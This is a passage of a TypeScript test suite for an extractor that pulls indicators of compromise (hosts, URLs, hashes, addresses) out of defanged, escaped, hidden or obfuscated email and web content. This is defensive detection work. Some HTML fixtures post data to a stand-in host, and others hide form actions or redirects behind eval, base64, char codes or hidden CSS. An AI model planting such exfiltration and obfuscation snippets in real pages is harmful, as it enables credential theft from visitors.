import { extractIndicators, isValidIndicator, type ExtractOptions, type Indicator } from '../../../lib/indicators';
import { INDICATOR_LIMITS } from '../../../lib/limits';
import { typedTextInSteps } from '../../../lib/indicators/places/typed';
import { attachment, message } from './messages';

// Reserved names and addresses throughout: `documentation` is left out of what is compared.
const brief = ({ type, value, flags, defanged }: Indicator): string => {
	const said = [...(defanged ? ['defanged'] : []), ...flags.filter((flag) => flag !== 'documentation')];
	return `${type} ${value}${said.length > 0 ? ` (${said.join(', ')})` : ''}`;
};
const inText = (text: string, options?: ExtractOptions): string[] => extractIndicators({ text }, options).map(brief);
const urlsIn = (text: string): string[] =>
	extractIndicators({ text })
		.filter(({ type }) => type === 'url')
		.map(({ value }) => value);
const valuesIn = (text: string): string[] => inText(text).map((line) => line.split(' ')[1]!);
/** What the node hands on with its defaults. */
const kept = (text: string): string[] =>
	extractIndicators({ text }, { exclude: ['file-name-like', 'id-like', 'schema-url', 'version-like'] }).map(
		({ value }) => value,
	);

describe('domains-taken-for-files: a list of hosts is a list of hosts', () => {
	it('names under suffixes that are no file extensions are hosts wherever they stand', () => {
		const names = [
			'portal-check.net',
			'mail.portal-check.dev',
			'konto-sprawdz.pl',
			'kyc.verify-me.in',
			'faktura.no',
			'wallet-sync.cc',
			'shop.web.app',
			'net.portal-check.com',
			'com.portal-check.io',
		];
		expect(kept(names.join('\n'))).toEqual(names);
		expect(kept(`Blocked today: ${names.join(' and ')} at the proxy`)).toEqual(names);
	});

	it('under .md, .sh, .zip and the like, the list, its heading or the word before decides', () => {
		expect(kept('portal-check.com\nstage.zip\n198.51.100.4\nloader.sh')).toEqual([
			'portal-check.com',
			'stage.zip',
			'198.51.100.4',
			'loader.sh',
		]);
		expect(kept('Domains:\n- stage.zip\n- loader.sh\n')).toEqual(['stage.zip', 'loader.sh']);
		expect(kept('domain,seen\nstage.md,2026-01-02\nloader.rs,2026-01-03\n')).toEqual(['stage.md', 'loader.rs']);
		expect(kept('| Host | Port |\n|---|---|\n| stage.py | 443 |')).toEqual(['stage.py']);
		expect(kept('C2: loader.sh, and the server loader2.sh:8080')).toEqual(['loader.sh', 'loader2.sh']);
	});

	it.each([
		['C2 servers: bad.zip, login-x.md and evil.sh', ['bad.zip', 'login-x.md', 'evil.sh']],
		['{"domains":["login-x.md","bad.zip"]}', ['login-x.md', 'bad.zip']],
		[`domains = ['bad.zip', 'login-x.md']`, ['bad.zip', 'login-x.md']],
		['{"type":"domain","category":"Network activity","value":"bad.zip"}', ['bad.zip']],
		["[domain-name:value = 'bad.zip']", ['bad.zip']],
		['bad.zip resolves to an address in the range', ['bad.zip']],
		['login-x.md. 300 IN A 192.0.2.7', ['login-x.md', '192.0.2.7']],
		['$ dig login-x.md', ['login-x.md']],
		['0.0.0.0 bad.zip', ['0.0.0.0', 'bad.zip']],
		['the phishing site at bad.zip', ['bad.zip']],
		['Die Domäne bad.zip, le domaine evil.sh, домен login-x.md', ['bad.zip', 'evil.sh', 'login-x.md']],
	])('nor when the text says so before, behind, or of the list: %s', (text, names) => {
		expect(kept(text)).toEqual(names);
	});

	it('files stay files', () => {
		expect(kept('see README.md, invoice.zip and main.rs')).toEqual([]);
		expect(kept('setup.exe\nstage.zip\nloader.sh\n')).toEqual([]);
		expect(kept('Files:\nstage.zip\nloader.sh\n')).toEqual([]);
		expect(kept('file,sha1\nstage.zip,2fd4e1c67a2d28fced849ee1bb76e7391b93eb12')).toEqual([
			'2fd4e1c67a2d28fced849ee1bb76e7391b93eb12',
		]);
		expect(kept('package com.vendor.app; node setup.pl')).toEqual([]);
	});
});

it('detection-names: what anti-virus programs, scripts and style sheets write is no host', () => {
	expect(inText('Trojan-Spy.MSIL.Agent.to, Worm.Win32.Generic.ws and backdoor.linux.agent.cc')).toEqual([]);
	const names = [
		'Win32.Emotet.is',
		'Trojan.GenericKD.me',
		'PUA.Win.Tool.in',
		'Gen:Variant.Zusy.is',
		'Exploit.CVE-2017-11882.in',
		'Email.Phishing.VOF.in',
		'MSIL.Injector.su',
	];
	expect(inText(names.join(' '))).toEqual([]);
	expect(inText('detected as trojan.emotet.is, signature: "win32.emotet.me"')).toEqual([]);
	// Names of hosts that begin with the same words.
	const hosts = [
		'win32.evil.is',
		'android.update.me',
		'trojan.me',
		'LINUX.EVIL.IN',
		'script.evil.com',
		'Email.Kotak.in',
	];
	expect(inText(hosts.join(' '))).toEqual(hosts.map((name) => `domain-name ${name.toLowerCase()}`));
	expect(inText('the domain Win32.Emotet.is was seized; Win32.Emotet.is/gate.php')).toEqual([
		'domain-name win32.emotet.is',
		'url http://win32.emotet.is/gate.php (scheme-assumed)',
	]);
	expect(inText('div.menu.info user.email window.open')).toEqual([
		'domain-name div.menu.info (file-name-like)',
		'domain-name user.email (file-name-like)',
		'domain-name window.open (file-name-like)',
	]);
});

describe('md5-taken-for-uuid, non-file-hashes: the label beside a hash decides', () => {
	const MD5 = '3c59dc048e8850243be8079a5c74d079';
	const VERSION_4 = '1f0e3dad99908345f7439f8ffabdffc4'.replace(/^(.{12}).(.{3})./, '$14$28');
	const SHA256 = '4b227777d4dd1fc61c6f884f48641d02b4d121d3fd328cb08b5531fcacdabf8a';

	it('an MD5 with the bits of a UUID is an MD5', () => {
		expect(kept(`MD5: ${VERSION_4}`)).toEqual([VERSION_4]);
		expect(kept(`${VERSION_4}\n${MD5}\n`)).toEqual([VERSION_4, MD5]);
		expect(kept(`MD5,${VERSION_4},loader.exe`)).toEqual([VERSION_4]);
		expect(kept(`sample id: ${SHA256}`)).toEqual([SHA256]);
		expect(inText(`guid=${MD5}`)).toEqual([`file ${MD5} (id-like)`]);
	});

	it.each([
		'imphash: ',
		'Imphash (MD5): ',
		'authentihash=',
		'JA3 fingerprint: ',
		'JA3S hash ',
		'vhash: ',
		'Rich header hash: ',
		'certificate SHA-256 fingerprint: ',
		'Thumbprint ',
		'Serial number: ',
	])('what stands behind %j is no file', (label) => {
		expect(inText(`${label}${MD5}`)).toEqual([]);
		expect(inText(`${label}\n${MD5}`)).toEqual([]);
	});

	it('nor what stands in such a column; the file beside it is', () => {
		expect(valuesIn(`name,imphash,md5\na,${VERSION_4},${MD5}\n`)).toEqual([MD5]);
		expect(valuesIn(`imphash: ${VERSION_4}, md5: ${MD5}`)).toEqual([MD5]);
	});

	it('hashes as reports write them', () => {
		expect(valuesIn(`\`+${SHA256.toUpperCase()}+\``)).toEqual([SHA256]);
		expect(valuesIn(`${SHA256[0]}${SHA256.slice(1)}`)).toEqual([SHA256]);
		expect(valuesIn(`F${SHA256.slice(1)}`)).toEqual([`f${SHA256.slice(1)}`]);
		expect(valuesIn(`${MD5}.quarantine`)).toEqual([MD5]);
		expect(valuesIn(`${MD5}/${SHA256}`)).toEqual([MD5, SHA256]);
		expect(valuesIn(`${SHA256}l and ${SHA256}`)).toEqual([SHA256]);
	});

	it.each([
		`https://www.virustotal.com/gui/file/${SHA256}/details`,
		`https://bazaar.abuse.ch/sample/${SHA256}/`,
		`https://www.hybrid-analysis.com/sample/${SHA256}?environmentId=1`,
		`https://otx.alienvault.com/indicator/file/${SHA256}`,
		`https://safelinks.protection.outlook.com/?url=https%3A%2F%2Fwww.virustotal.com%2Fgui%2Ffile%2F${SHA256}`,
	])('the file that a page of an analysis is about: %s', (url) => {
		const [file] = extractIndicators({ text: url }).filter(({ type }) => type === 'file');
		expect(file).toMatchObject({ value: SHA256, hashes: { 'SHA-256': SHA256 }, flags: [] });
		expect(file!.derivedFrom).toContain(SHA256);
		expect(extractIndicators({ text: url }, { hashes: false }).filter(({ type }) => type === 'file')).toEqual([]);
	});

	it('a hash in any other path is none of a file', () => {
		expect(valuesIn(`https://drop.example/gui/file/${SHA256}`)).not.toContain(SHA256);
		expect(valuesIn(`https://www.virustotal.com/gui/url/${SHA256}`)).not.toContain(SHA256);
	});
});

it('csv-columns: a URL ends with its cell', () => {
	expect(valuesIn('link,https://drop.example/g/a1,Seen twice')).toEqual(['https://drop.example/g/a1', 'drop.example']);
	expect(urlsIn('https://drop.example/a,2026-01-02,x\nhttps://drop.example/b?c=1,2026-01-03,y\n')).toEqual([
		'https://drop.example/a',
		'https://drop.example/b?c=1',
	]);
	expect(valuesIn('https://drop.example/a;198.51.100.7;x')).toEqual([
		'https://drop.example/a',
		'drop.example',
		'198.51.100.7',
	]);
	// One row, and nothing around it: what stands behind the commas says so.
	const rows = ['2026-01-02,high', 'two.example,x', 'AS64500', 'jane@two.example,DE', 'x,2026-01-02T10:00:00Z'];
	for (const row of rows) expect(urlsIn(`https://drop.example/a,${row}`)[0]).toBe('https://drop.example/a');
	expect(urlsIn('https://drop.example/a?from=2026-01-01,2026-02-01\n')).toEqual([
		'https://drop.example/a?from=2026-01-01,2026-02-01',
	]);
	expect(urlsIn('https://drop.example/@48.1,11.5,15z')).toEqual(['https://drop.example/@48.1,11.5,15z']);
	expect(urlsIn('"https://drop.example/a,b",x')).toEqual(['https://drop.example/a,b']);
	expect(urlsIn('Read https://news.example/story,1518,33.html today')).toEqual([
		'https://news.example/story,1518,33.html',
	]);
});

it('bracket-joined-urls: a URL ends at the bracket that was open before it', () => {
	expect(urlsIn('[https://shop.example/login](https://drop.example/a)')).toEqual([
		'https://shop.example/login',
		'https://drop.example/a',
	]);
	expect(urlsIn('(https://drop.example/a)**Thanks (https://drop.example/b)-like (https://drop.example/c)(x)')).toEqual([
		'https://drop.example/a',
		'https://drop.example/b',
		'https://drop.example/c',
	]);
	expect(urlsIn('[url=https://drop.example/a]x[/url] https://drop.example/b[1] https://drop.example/c/[Name]')).toEqual(
		['https://drop.example/a', 'https://drop.example/b', 'https://drop.example/c/'],
	);
	expect(urlsIn("`++http://drop.example/z.php++` http://drop.example/#[recipient's address]")).toEqual([
		'http://drop.example/z.php',
		'http://drop.example/',
	]);
	expect(urlsIn('https://drop.example/a_(b) https://drop.example/?a[]=1&b[c]=2')).toEqual([
		'https://drop.example/a_(b)',
		'https://drop.example/?a[]=1&b[c]=2',
	]);
});

it.each([
	['http[s]://', 'https'],
	['hxxp[s]://', 'https'],
	['http(s)://', 'https'],
	['[hxxps://]', 'https'],
	['ttps://', 'https'],
	['h..ps://', 'https'],
	['httxs://', 'https'],
	['https//', 'https'],
	['https:||', 'https'],
	['h\u0445\u0445\u0440s://', 'https'],
	['\uff48\uff54\uff54\uff50\uff53\uff1a\uff0f\uff0f', 'https'],
	['ttp://', 'http'],
])('scheme-wrong: %s opens %s', (opening, scheme) => {
	expect(urlsIn(`at ${opening}drop.example/a`)).toEqual([`${scheme}://drop.example/a`]);
});

it('scheme-wrong: of an unknown scheme, no URL is made up', () => {
	expect(valuesIn('myapp://drop.example/a')).toEqual(['drop.example']);
});

it('escaped-text: what Markdown, JSON and HTML escape is read', () => {
	expect(inText('drop\\[.\\]example and hxxps\\[:\\]//two\\[.\\]example/a and 198\\[.\\]51\\[.\\]100\\[.\\]9')).toEqual(
		[
			'domain-name drop.example (defanged)',
			'url https://two.example/a (defanged)',
			'domain-name two.example (defanged)',
			'ipv4-addr 198.51.100.9 (defanged)',
		],
	);
	expect(urlsIn('{"link":"https:\\/\\/drop.example\\/a?b=1\\u0026c=2"}')).toEqual(['https://drop.example/a?b=1&c=2']);
	expect(valuesIn('drop&#46;example https://two.example/?a=1&amp;b=2')).toEqual([
		'drop.example',
		'https://two.example/?a=1&b=2',
		'two.example',
	]);
	expect(urlsIn('https://drop.example/a\\_b\\-c')).toEqual(['https://drop.example/a_b-c']);
	expect(inText('rule [a-z]{4}\\.pages\\.dev or \\d+\\.shop\\.example')).toEqual(['domain-name shop.example']);
});

it('wrapped-angle-url: lines may be broken between angle brackets', () => {
	expect(valuesIn('Open\n<https://drop.exam\nple/login?a=1\r\n  &b=2> now')).toEqual([
		'https://drop.example/login?a=1&b=2',
		'drop.example',
	]);
	expect(urlsIn('<https://drop.example/a\n\nb> and <https://two.example/a\nsome words>')).toEqual([
		'https://drop.example/a',
		'https://two.example/a',
	]);
});

it('unc-webdav: the server of a share', () => {
	expect(valuesIn('dir \\\\files.drop.example\\pub\\a.exe')).toEqual(['files.drop.example']);
	expect(valuesIn('WorkingDirectory=\\\\drop.example@SSL@443\\DavWWWRoot\\a')).toEqual(['drop.example']);
	expect(valuesIn('\\\\198.51.100.7@80\\a search-ms:query=x&crumb=location:\\\\drop.example\\a')).toEqual([
		'198.51.100.7',
		'drop.example',
	]);
	expect(valuesIn('file://198.51.100.7@80/a.exe')).toEqual(['file://198.51.100.7:80/a.exe', '198.51.100.7']);
	expect(inText('C:\\Users\\drop.example\\x and "C:\\\\drop.example\\\\x"')).toEqual([]);
});

it.each([
	...[
		'[ponto]',
		'[point]',
		'[точка]',
		'[点]',
		'[pont]',
		'[nokta]',
		'[kropka]',
		'[[.]]',
		'[\u00b7]',
		'{{.}}',
		'|.|',
		'[-dot-]',
		'\u2024',
	].map((dot) => [`drop${dot}evil${dot}com`, 'drop.evil.com']),
	['drop\u2022evil\u2022com', 'drop.evil.com'],
	...['(a)', '(\u00e4t)', '(kukac)', '[arobase]'].map((sign) => [`jane${sign}drop.example`, 'jane@drop.example']),
])('defang-words: %s is %s', (written, read) => {
	expect(inText(written)[0]).toMatch(new RegExp(`^\\S+ ${read.replaceAll('.', '\\.')} \\(defanged`));
});

it('trailing-dot-host: the dot of the root ends no URL that goes on', () => {
	expect(urlsIn('at http://drop.example./login?x=1 or http://two.example.:8080/a, not http://three.example.')).toEqual([
		'http://drop.example./login?x=1',
		'http://two.example.:8080/a',
		'http://three.example/',
	]);
	expect(valuesIn('hxxps://drop[.]example[.] Then')).toEqual(['https://drop.example/', 'drop.example']);
});

it('emoji-host: names of pictures behind a scheme', () => {
	expect(valuesIn('https://i\u2764.ws/x and https://\ud83d\udc8c.drop.example/y')).toEqual([
		'https://xn--i-7iq.ws/x',
		'xn--i-7iq.ws',
		'https://xn--rr8h.drop.example/y',
		'xn--rr8h.drop.example',
	]);
});

it('addresses behind a protocol, small ones, ranges and wildcards', () => {
	expect(kept('tcp/198.51.100.7:443 IP/198.51.100.8 9.8.7.6')).toEqual(['198.51.100.7', '198.51.100.8', '9.8.7.6']);
	expect(kept('4.3.2.1 Results\nChrome/120.0.10.1')).toEqual([]);
	expect(valuesIn('198.51.100.10-20, 203.0.113.*')).toEqual(['198.51.100.10', '198.51.100.20', '203.0.113.0/24']);
});

describe('embedded-target: a URL inside of another is told, and the outer one too', () => {
	const inLink = (href: string): string[] =>
		extractIndicators({ html: `<a href="${href}">open</a>` })
			.filter(({ type }) => type === 'url')
			.map(({ value }) => value);

	it.each([
		'https://open.example/r?url=https%3A%2F%2Fdrop.example%2Fin%3Fx%3D1&id=7',
		'https://open.example/r?returnurl=https%253A%252F%252Fdrop.example%252Fin%253Fx%253D1',
		'https://open.example/r?u=https%25253A%25252F%25252Fdrop.example%25252Fin%25253Fx%25253D1&y=2',
		'https://track.example/CL0/https:%2F%2Fdrop.example%2Fin%3Fx=1/1/0100018/abc=306',
		'https://proxy.example/https://drop.example/in?x=1',
		'https://images.example/proxy/abc=s0#https://drop.example/in?x=1',
		'https://open.example/?https://drop.example/in?x=1',
		'https://open.example/l?d=aHR0cHM6Ly9kcm9wLmV4YW1wbGUvaW4/eD0x',
		'https://www.linkedin.com/safety/go?url=https%3A%2F%2Fdrop.example%2Fin%3Fx%3D1&trk=x',
		'https://www.youtube.com/redirect?event=v&q=https%3A%2F%2Fdrop.example%2Fin%3Fx%3D1',
		'https://maps.google.de/url?q=https%3A%2F%2Fdrop.example%2Fin%3Fx%3D1',
		'https://adclick.g.doubleclick.net/aclk?sa=l&adurl=https%3A%2F%2Fdrop.example%2Fin%3Fx%3D1',
		'https://drop-example.cdn.ampproject.org/c/s/drop.example/in?x=1',
		'https://drop-example.translate.goog/in?x=1&_x_tr_sl=en',
		'https://r.search.yahoo.com/_ylt=A/RU=https%3a%2f%2fdrop.example%2fin%3fx%3d1/RK=2/RS=b',
	])('%s', (href) => {
		const urls = inLink(href);
		expect(urls).toHaveLength(2);
		expect(urls[1]).toBe('https://drop.example/in?x=1');
	});

	it.each([
		['https://shop.com/go?url=//lure.com/p', 'https://lure.com/p'],
		['https://shop.com/go?url=%2F%2Flure.com%2Fp&x=1', 'https://lure.com/p'],
		[`https://shop.com/r?d=${Buffer.from('url=https://lure.com/p').toString('base64')}`, 'https://lure.com/p'],
		[`https://shop.com/r?d=${Buffer.from('u=https://lure.com/p').toString('base64')}`, 'https://lure.com/p'],
		['https://www.google.de/url?q=lure.com/p&sa=D', 'lure.com'],
	])('without its scheme, or within base64: %s', (text, value) => {
		const found = extractIndicators({ text }).find((indicator) => indicator.value === value);
		expect(found?.flags).toContain('embedded');
	});

	it.each(['https://shop.com/search?q=//', 'https://shop.com/a?b=//x', 'https://shop.com/?h0dHA=aaaaaaaaaaaaaaaaaaaa'])(
		'nothing of the kind stands in %s',
		(text) => {
			expect(extractIndicators({ text }).filter(({ flags }) => flags.includes('embedded'))).toEqual([]);
		},
	);

	it('says where it came from', () => {
		const found = extractIndicators({ text: 'https://open.example/r?to=https://drop.example/a' });
		expect(found.map(({ value, flags, derivedFrom }) => [value, flags.includes('embedded'), derivedFrom])).toEqual([
			['https://open.example/r?to=https://drop.example/a', false, undefined],
			['open.example', false, 'https://open.example/r?to=https://drop.example/a'],
			['https://drop.example/a', true, 'https://open.example/r?to=https://drop.example/a'],
			['drop.example', true, 'https://drop.example/a'],
		]);
	});

	it('one that also stands by itself is no embedded one', () => {
		const found = extractIndicators({
			text: 'https://open.example/r?to=https://drop.example/a https://drop.example/a',
		});
		expect(found.some(({ flags }) => flags.includes('embedded'))).toBe(false);
	});

	it('a service that names the host only gives the host', () => {
		expect(inText('https://protect-au.mimecast.com/s/Cr81?domain=drop.example')).toContain(
			'domain-name drop.example (embedded)',
		);
	});

	it('no more of them than the limit', () => {
		const nested = `https://open.example/${'?u=https://a.example/'.repeat(200)}`;
		expect(extractIndicators({ text: nested }).filter(({ type }) => type === 'url').length).toBeLessThanOrEqual(9);
		expect(inText('https://open.example/?u=http%3A%2F%2F&v=https://')).toHaveLength(2);
	});
});

describe('html-script-urls, meta-refresh, links of CSS and of all attributes: what the machine reads', () => {
	const inHtml = (html: string): string[] =>
		extractIndicators({ html })
			.filter(({ type }) => type === 'url')
			.map(({ value, sources }) => `${value} ${sources[0]?.field}`);

	it.each([
		['<script>$.post("https://drop.example/c.php",d)</script>', 'script'],
		["<script>fetch('https:\\/\\/drop.example\\/c.php?e='+x)</script>", 'script', '?e='],
		['<button onclick="location=&quot;https://drop.example/c.php&quot;">x</button>', 'button[onclick]'],
		['<a href="javascript:location=%22https://drop.example/c.php%22">x</a>', 'a[href]'],
		[
			`<script>document.write(unescape("%3Cform action%3D%22https%3A//drop.example/c.php%22%3E"))</script>`,
			'form[action]',
		],
		[
			`<script>eval(atob("${Buffer.from('location="https://drop.example/c.php"').toString('base64')}"))</script>`,
			'script',
		],
		[`<script>var u = '${Buffer.from('https://drop.example/c.php').toString('base64')}'</script>`, 'script'],
		[`<script>var u = '${Buffer.from('https://drop.example/c.php').toString('hex')}'</script>`, 'script'],
		[
			`<script>x(String.fromCharCode(${[...'https://drop.example/c.php'].map((c) => c.charCodeAt(0)).join(', ')}))</script>`,
			'script',
		],
		['<script>x("\\x68\\x74\\x74\\x70\\x73://drop.example/c.php")</script>', 'script'],
		[
			`<iframe src="data:text/html;base64,${Buffer.from('<form action="https://drop.example/c.php">').toString('base64')}">`,
			'form[action]',
		],
		['<iframe srcdoc="<form action=&quot;https://drop.example/c.php&quot;>">', 'form[action]'],
		['<meta http-equiv="refresh" content="0; https://drop.example/c.php">', 'meta[refresh]'],
		['<td style="background:url(\'https://drop.example/c.php\')">', 'td[style]'],
		['<style>@import "https://drop.example/c.php"; p{color:red}</style>', 'style'],
		['<a data-saferedirecturl="https://drop.example/c.php">x</a>', 'a[data-saferedirecturl]'],
	])('%s', (html, field, query = '') => {
		expect(inHtml(html)).toEqual([`https://drop.example/c.php${query} ${field}`]);
	});

	it('names nothing that only looks like a host in a program', () => {
		expect(
			extractIndicators({ html: '<script>window.open(a.info); this.id = node.name; user.email</script>' }),
		).toEqual([]);
		expect(
			inHtml('<html xmlns="http://www.w3.org/1999/xhtml" itemtype="http://schema.org/x"><q cite="http://a.example/">'),
		).toEqual([]);
	});

	it('decodes no deeper, and no more, than the limits', () => {
		let code = 'location="https://drop.example/deep"';
		for (let depth = 0; depth < 8; depth++) code = `eval(atob("${Buffer.from(code).toString('base64')}"))`;
		expect(extractIndicators({ html: `<script>${code}</script>` })).toEqual([]);
	});
});

describe('hidden-text: what the reader sees, and what stands there', () => {
	it.each(['display:none', 'font-size:0', 'font-size: 0px; color:red', 'visibility: hidden', 'opacity:0'])(
		'%s',
		(style) => {
			const found = extractIndicators({
				html: `<p>https://dr<span style="${style}">XX</span>op.example/a <b>and</b> <div style="${style}">see two.example</div></p>`,
			}).map(brief);
			expect(found).toEqual([
				'url https://drop.example/a',
				'domain-name drop.example',
				'domain-name two.example (hidden-text)',
			]);
		},
	);

	it('what a style sheet hides by a class or an id is hidden, too', () => {
		const page = (css: string): string[] =>
			extractIndicators({
				html: `<style>${css}</style><p class="lead  preheader">hidden.example</p><table><tr><td id=x>id.example</td></table><p class=other>seen.example</p>`,
			}).map(brief);
		expect(
			page(
				'/* .other{display:none} */ p.preheader, a .other { color:red; display : none !important }\n#x{font-size:0}',
			),
		).toEqual([
			'domain-name seen.example',
			'domain-name hidden.example (hidden-text)',
			'domain-name id.example (hidden-text)',
		]);
		// On small screens only, in another tag, when the mouse is over it: seen.
		for (const css of [
			'@media (max-width:600px){.preheader{display:none}}',
			'td.preheader{display:none}',
			'.preheader:hover{display:none}',
			'.preheader{display:block}',
		])
			expect(page(css)).toContain('domain-name hidden.example');
	});

	it('an element inside of a hidden one of its name does not end it, what follows is seen', () => {
		const found = extractIndicators({
			html: '<div hidden><div>a.example</div> b.example</div> c.example <div style="display:block;font-size:10px">d.example</div>',
		}).map(brief);
		expect(found).toEqual([
			'domain-name c.example',
			'domain-name d.example',
			'domain-name a.example (hidden-text)',
			'domain-name b.example (hidden-text)',
		]);
	});
});

describe('texts by their type', () => {
	const inFile = (text: string | Buffer, fileName: string, contentType = 'application/octet-stream'): string[] =>
		extractIndicators(message({ attachments: [attachment(text, { fileName, contentType })] }), {
			attachments: false,
		}).map(({ value }) => value);

	it('ics-folding: calendars and cards are unfolded and decoded', () => {
		expect(
			inFile(
				'BEGIN:VCALENDAR\r\nDESCRIPTION:Join https://meet.drop.example/portal/lo\r\n ng/verify?a=1\\nor https://two.ex\r\n\tample/x\\, please\r\nEND:VCALENDAR\r\n',
				'invite.ics',
			),
		).toEqual([
			'https://meet.drop.example/portal/long/verify?a=1',
			'meet.drop.example',
			'https://two.example/x',
			'two.example',
		]);
		expect(
			inFile('BEGIN:VCARD\r\nURL;ENCODING=QUOTED-PRINTABLE:https://drop.example/=\r\na=3Fb\r\n', 'x.vcf'),
		).toContain('https://drop.example/a?b');
		expect(
			inFile(
				`ATTACH;ENCODING=BASE64;VALUE=BINARY:${Buffer.from('go to https://drop.example/a').toString('base64')}`,
				'x.ics',
			),
		).toContain('https://drop.example/a');
	});

	it('tables are read by cell, JSON without its escapes', () => {
		expect(inFile('url;note\nhttps://drop.example/a?b=1;two.example\n', 'x.csv')).toEqual([
			'https://drop.example/a?b=1',
			'drop.example',
			'two.example',
		]);
		expect(inFile('{"a":"x\\nhttps:\\/\\/drop.example\\/a\\ntwo.example"}', 'x.json')).toEqual([
			'https://drop.example/a',
			'drop.example',
			'two.example',
		]);
	});

	it.each(['x.wsf', 'x.jse', 'x.vbe', 'x.psm1', 'x.rdp', 'x.library-ms', 'x.search-ms', 'x.website', 'x.xslt'])(
		'text-file-types: %s',
		(name) => {
			expect(inFile('full address:s:drop.example\nhttps://two.example/a', name)).toContain('two.example');
		},
	);

	it('text-file-types: HTML without a name, with a dot behind it, in a web archive', () => {
		const form = '<!DOCTYPE html><form action="https://drop.example/a">';
		expect(inFile(form, 'document')).toContain('https://drop.example/a');
		expect(inFile(form, 'x.htm.')).toContain('https://drop.example/a');
		expect(
			inFile(
				'Content-Transfer-Encoding: quoted-printable\r\n\r\n<form action=3D"https://drop.exam=\r\nple/a">',
				'x.mht',
			),
		).toContain('https://drop.example/a');
		expect(inFile(`document.write(atob("${Buffer.from(form).toString('base64')}"))`, 'x.js')).toContain(
			'https://drop.example/a',
		);
	});

	it('inline-text-parts, outside-text: every text of the message', () => {
		const part = (contentType: string, text: string) => ({ partId: '1', contentType, size: text.length, text });
		const found = extractIndicators(
			message({
				parts: [
					part('text/calendar', 'LOCATION:https://drop.example/lo\n c\nORGANIZER:mailto:boss@drop.example'),
					part('text/x-amp-html', '<a href="https://two.example/amp">x</a>'),
					part('message/feedback-report', 'Source-IP: 198.51.100.7\nReported-URI: https://three.example/arf'),
					part('text/rfc822-headers', 'Message-ID: <a@four.example>\nFrom: b@five.example\n'),
				],
				outsideText: 'https://six.example/pre',
			}),
		);
		expect(
			found
				.filter(({ type }) => type !== 'domain-name')
				.map(({ value, sources }) => `${value} ${sources[0]?.part} ${sources[0]?.field}`),
		).toEqual([
			'https://drop.example/loc text text/calendar',
			'boss@drop.example text text/calendar',
			'https://two.example/amp html a[href]',
			'198.51.100.7 text message/feedback-report Source-IP',
			'https://three.example/arf text message/feedback-report Reported-URI',
			'b@five.example text text/rfc822-headers From',
			'https://six.example/pre outside undefined',
		]);
	});

	it('reports of machines are read by field: who it was for, and by which servers it went, says so', () => {
		const reports = {
			'message/delivery-status':
				'Reporting-MTA: dns; mx.relay.example\nOriginal-Envelope-Id: a@id.example\nArrival-Date: x\n\n' +
				'Final-Recipient: rfc822; Jane@own.example\nDiagnostic-Code: smtp; 550 see\n https://help.example/a for 198.51.100.4\n',
			'message/feedback-report':
				'User-Agent: Bot/1 (https://bot.example)\nOriginal-Mail-From: <a/b=c@drop.example>\nOriginal-Rcpt-To: <jane@own.example>\nReported-Domain: drop.example',
			'text/rfc822-headers':
				'Message-ID: <a@id.example>\nDKIM-Signature: d=esp.example\nFrom: "X" <$x@drop.example>\nSubject: call hxxp://two[.]example',
		};
		for (const asFile of [false, true]) {
			const found = Object.entries(reports).map(([contentType, text]) =>
				extractIndicators(
					message(
						asFile
							? { attachments: [attachment(text, { contentType })] }
							: { parts: [{ partId: '1', contentType, size: 1, text }] },
					),
					{ attachments: false },
				).map(brief),
			);
			expect(found).toEqual([
				[
					'domain-name mx.relay.example (relay)',
					'email-addr jane@own.example (recipient)',
					'domain-name own.example (recipient)',
					'url https://help.example/a',
					'domain-name help.example',
					'ipv4-addr 198.51.100.4',
				],
				[
					'email-addr a/b=c@drop.example',
					'domain-name drop.example',
					'email-addr jane@own.example (recipient)',
					'domain-name own.example (recipient)',
				],
				[
					'email-addr $x@drop.example',
					'domain-name drop.example',
					'url http://two.example/ (defanged)',
					'domain-name two.example (defanged)',
				],
			]);
		}
	});

	it('rtf-only-body: documents in RTF give their text, the HTML in them, and where their hyperlinks lead', () => {
		const link = String.raw`{\rtf1\ansi see \'68ost drop.example at {\field{\*\fldinst HYPERLINK "https://two.example/a"}{\fldrslt here}}}`;
		const html = String.raw`{\rtf1\ansi\fromhtml1 {\*\htmltag <a href="https://three.example/b">}x{\*\htmltag </a>}}`;
		expect(inFile(link, 'x.rtf')).toEqual(['drop.example', 'https://two.example/a', 'two.example']);
		expect(inFile(link, 'invoice.doc', 'application/msword')).toEqual(inFile(link, 'x.rtf'));
		expect(inFile(html, 'x.rtf')).toEqual(['https://three.example/b', 'three.example']);
		const part = { partId: '1', contentType: 'text/rtf', size: 1, text: link };
		expect(extractIndicators(message({ parts: [part] })).map(({ value }) => value)).toContain('https://two.example/a');
	});

	it('a file that only lies elsewhere gives the place', () => {
		const at = (location: string): string[] =>
			extractIndicators(message({ attachments: [{ ...attachment(''), sha256: '', location }] })).map(
				({ value }) => value,
			);
		expect(at('https://share.example/a.zip')).toEqual(['https://share.example/a.zip', 'share.example']);
		expect(at('\\\\files.drop.example\\pub\\a.exe')).toEqual(['files.drop.example']);
		expect(at('C:\\Users\\a.exe')).toEqual([]);
	});

	it('a calendar, a web archive and JSON of megabytes are made readable a piece at a time', () => {
		const texts: Record<string, string> = {
			'x.ics': `BEGIN:VEVENT\r\n${'DESCRIPTION:words of\r\n  an invitation\r\n'.repeat(40_000)}URL:https://drop.exa\r\n mple/a\r\n`,
			'y.ics': `DESCRIPTION:${'a\\, b\\n'.repeat(200_000)}https://drop.example/a`,
			'x.mht': `${'=41=42 '.repeat(150_000)}<a href=3D"https://drop.exam=\r\nple/a">`,
			'x.json': `["${'a\\u0062\\/ '.repeat(100_000)}https:\\/\\/drop.example\\/a"]`,
		};
		for (const [fileName, text] of Object.entries(texts)) {
			const steps = typedTextInSteps(text, 'application/octet-stream', fileName);
			let count = 0;
			let step = steps.next();
			for (; step.done !== true; step = steps.next()) count++;
			expect(text.length / count).toBeLessThan(4 * INDICATOR_LIMITS.pieceCharacters);
			expect(step.value.text).toContain('https://drop.example/a');
		}
	});

	it.each([
		['admin=own.example@esp.example', 'admin=own.example@esp.example'],
		['Deals/X@shop.example', 'deals/x@shop.example'],
		['a!b@shop.example', 'a!b@shop.example'],
		['$x@shop.example', '$x@shop.example'],
		['"a b"@shop.example', '"a b"@shop.example'],
		['\u7528\u6237@shop.example', '\u7528\u6237@shop.example'],
		[`${'a'.repeat(70)}@shop.example`, `${'a'.repeat(70)}@shop.example`],
		['ceo@mail.notasuffix', 'ceo@mail.notasuffix'],
		['SMTP:ceo@shop.example', 'ceo@shop.example'],
	])('sender-address-altered: %s', (address, value) => {
		const found = extractIndicators(
			message({
				from: [{ address }],
				returnPath: address,
